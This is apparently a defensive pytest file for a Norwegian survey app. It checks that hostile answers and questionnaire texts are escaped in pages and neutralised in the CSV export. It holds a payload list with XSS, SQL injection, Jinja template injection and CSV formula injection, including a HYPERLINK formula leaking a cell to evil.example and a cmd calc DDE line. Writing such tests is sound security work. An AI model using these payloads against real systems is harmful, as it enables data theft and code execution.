"""Hostile free text: stored exactly, shown escaped, neutralised in the CSV export.

Free text reaches the database through the long-text question q14 and the "Annet,
spesifiser" text of q1; both are shown again when the respondent revisits the page, and both
go into the secretariat's export."""

from __future__ import annotations

import csv
import io

import pytest

from survey.invitation_list import Person
from survey.questionnaire import load_text
from survey.responses_csv import FORMULA_START, neutralise, restore
from survey.storage.invitations import add_invitations
from survey.storage.questionnaires import publish
from survey.storage.rounds import create_round
from tests.conftest import yaml
from tests.security.conftest import LIKERT_P3, MAYOR, P4, Elements, post_page, stored

PAYLOADS = {
    "script": "<script>alert('xss')</script>",
    "img_onerror": '<img src=x onerror="alert(1)">',
    "file_image": '<img src="file:///etc/passwd">',
    "link": '<link rel="stylesheet" href="http://127.0.0.1:9/leak.css">',
    "textarea_breakout": "</textarea><script>alert(1)</script>",
    "attribute_breakout": '" autofocus onfocus="alert(1)" x="',
    "jinja_expression": "{{ 7*7 }} {{ config }}",
    "jinja_statement": "{% for x in range(3) %}{{ x }}{% endfor %}",
    "sql_drop": "'); DROP TABLE answers; --",
    "sql_union": "1' OR '1'='1' UNION SELECT token FROM invitations --",
    "nul_byte": "før\x00etter",
    "rtl_override": "faktura \u202efdp.exe",
    "emoji": "Bra 👍🏽 👨\u200d👩\u200d👧 🇳🇴",
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"klikk")',
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_minus": "-2+3",
    "longest_allowed": "æ" * 5000,  # q14's limit (the default for long_text) exactly
}


def answer_with(client, token: str, text: str) -> None:
    base = f"/s/{token}"
    r = post_page(client, f"{base}/side/1", {"q1": "annet", "q1__annet": text, "action": "next"})
    assert r.status_code == 302, r.get_data(as_text=True)[:500]
    post_page(client, f"{base}/side/3", {**LIKERT_P3, "action": "next"})
    post_page(client, f"{base}/side/4", {**P4, "action": "next"})
    r = post_page(client, f"{base}/side/5", {"q14": text, "action": "next"})
    assert r.status_code == 302 and r.headers["Location"].endswith("/ferdig")


STYLESHEET_AND_ICON = ["/static/survey.css", "/static/favicon.svg"]


def assert_inert(html: str) -> Elements:
    """Nothing in the page can run or fetch anything but our own stylesheet."""
    page = Elements(html)
    assert page.named("script") == [] and page.named("img") == [] and page.named("iframe") == []
    assert [link["href"] for link in page.named("link")] == STYLESHEET_AND_ICON
    handlers = [(tag, name) for tag, attrs in page.tags for name in attrs if name.startswith("on")]
    assert handlers == []
    assert not [attrs for tag, attrs in page.tags if "autofocus" in attrs]
    return page


@pytest.mark.parametrize("text", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_hostile_text_is_stored_exactly_and_shown_escaped(setup, text):
    client = setup.app.test_client()
    token = setup.tokens[MAYOR]
    answer_with(client, token, text)
    rows = stored(setup, MAYOR)
    assert ("q1", "annet", None, text) in rows
    assert ("q14", "", None, text) in rows

    page1 = assert_inert(client.get(f"/s/{token}/side/1").get_data(as_text=True))
    assert page1.by_id("q1__annet")["value"] == text
    page5 = assert_inert(client.get(f"/s/{token}/side/5").get_data(as_text=True))
    assert page5.text_in["q14"] == text
    for path in (f"/s/{token}", f"/s/{token}/ferdig"):
        assert_inert(client.get(path).get_data(as_text=True))


def test_hostile_text_is_neutralised_in_the_csv_export(setup):
    db = setup.db()
    people = [Person(name, f"{name}@ex.no", "ordforer", "X", {}) for name in PAYLOADS]
    invited = {i.name: i for i in add_invitations(db, setup.round_id, people)}
    db.close()
    for name, text in PAYLOADS.items():
        answer_with(setup.app.test_client(), invited[name].token, text)
    result = setup.app.test_cli_runner().invoke(args=["export", str(setup.round_id)])
    assert result.exit_code == 0, result.output
    header, *rows = list(csv.reader(io.StringIO(result.stdout)))
    assert header[0] == "email"
    # (an e-mail may start with "-" or "=", so the export neutralises them too)
    by_email = {restore(row[0]): dict(zip(header, row, strict=True)) for row in rows}
    for name, text in PAYLOADS.items():
        cells = by_email[invited[name].email]
        for column in ("q14", "q1_detail"):
            assert cells[column] == neutralise(text), (name, column)
            assert not cells[column].startswith(FORMULA_START), (name, column)
        if text.startswith(("=", "@", "-")):
            assert cells["q14"] == "'" + text


def test_text_over_the_limit_is_refused_with_a_message_and_not_stored(setup):
    client = setup.app.test_client()
    token = setup.tokens[MAYOR]
    post_page(client, f"/s/{token}/side/1", {"q1": "ordforer", "action": "next"})
    before = stored(setup, MAYOR)
    r = post_page(client, f"/s/{token}/side/5", {"q14": "æ" * 5001, "action": "next"})
    html = r.get_data(as_text=True)
    assert r.status_code == 200
    assert "Svaret kan være høyst 5000 tegn langt (nå er det 5001)." in html
    assert Elements(html).text_in["q14"] == "æ" * 5001  # kept for shortening, not stored
    assert stored(setup, MAYOR) == before


def test_a_megabyte_of_text_gets_the_length_message_and_is_not_stored(setup):
    client = setup.app.test_client()
    token = setup.tokens[MAYOR]
    post_page(client, f"/s/{token}/side/1", {"q1": "ordforer", "action": "next"})
    before = stored(setup, MAYOR)
    r = post_page(client, f"/s/{token}/side/5", {"q14": "a" * 1_000_000, "action": "next"})
    assert r.status_code == 200
    assert "Svaret kan være høyst 5000 tegn langt (nå er det 1000000)." in r.get_data(as_text=True)
    assert stored(setup, MAYOR) == before


def test_a_body_over_the_request_limit_gets_413_and_a_page_in_bokmal(setup):
    client = setup.app.test_client()
    token = setup.tokens[MAYOR]
    post_page(client, f"/s/{token}/side/1", {"q1": "annet", "q1__annet": "x", "action": "next"})
    before = stored(setup, MAYOR)
    r = post_page(client, f"/s/{token}/side/1", {"q1": "annet", "q1__annet": "a" * 3_000_000})
    assert r.status_code == 413
    html = r.get_data(as_text=True)
    assert "Det du sendte, var for stort" in html and "gjør teksten kortere" in html
    assert stored(setup, MAYOR) == before


HOSTILE_QUESTIONNAIRE = """\
id: fiendtlig
version: 1
title: "<script>alert('tittel')</script>"
introduction: '<img src=x onerror="alert(1)">'
confidentiality: "{{ 7*7 }}"
closing: '<link rel="stylesheet" href="http://127.0.0.1:9/x.css">'
roles:
  - {code: ansatt, label: "<b>Ansatt</b>"}
pages:
  - id: side
    title: "</title><script>alert(2)</script>"
    questions:
      - id: q1
        type: single_choice
        text: "<iframe src=//evil.example></iframe>"
        choices:
          - {code: ja, label: '<a href="javascript:alert(3)">Ja</a>'}
          - {code: annet, label: "Annet", specify: {type: text, label: "<svg onload=alert(4)>"}}
"""


def test_questionnaire_texts_are_escaped_too(setup):
    db = setup.db()
    result = load_text(yaml(HOSTILE_QUESTIONNAIRE), "fiendtlig.yaml")
    assert result.ok, [str(p) for p in result.problems]
    publish(db, result)
    round_ = create_round(db, "fiendtlig", "Fiendtlig")
    (invitation,) = add_invitations(db, round_.id, [Person("A", "a@ex.no", "ansatt", "X", {})])
    db.close()
    client = setup.app.test_client()
    base = f"/s/{invitation.token}"
    start = client.get(base).get_data(as_text=True)
    assert_inert(start)
    assert "&lt;script&gt;alert(&#39;tittel&#39;)&lt;/script&gt;" in start
    # not evaluated: no 49 on the page but in the link's random token (1 in 130 has one)
    assert "{{ 7*7 }}" in start and "49" not in start.replace(invitation.token, "")
    page = client.get(f"{base}/side/1").get_data(as_text=True)
    assert_inert(page)
    elements = Elements(page)
    assert elements.named("a") == [
        {"class": "skip-link", "href": "#innhold"},
        {"href": "/tilgjengelighet"},  # the footer's, on every page
    ]
    assert elements.named("svg") == [] and elements.named("b") == []
    r = post_page(client, f"{base}/side/1", {"q1": "ja", "action": "next"})
    assert r.headers["Location"].endswith("/ferdig")
    assert_inert(client.get(f"{base}/ferdig").get_data(as_text=True))
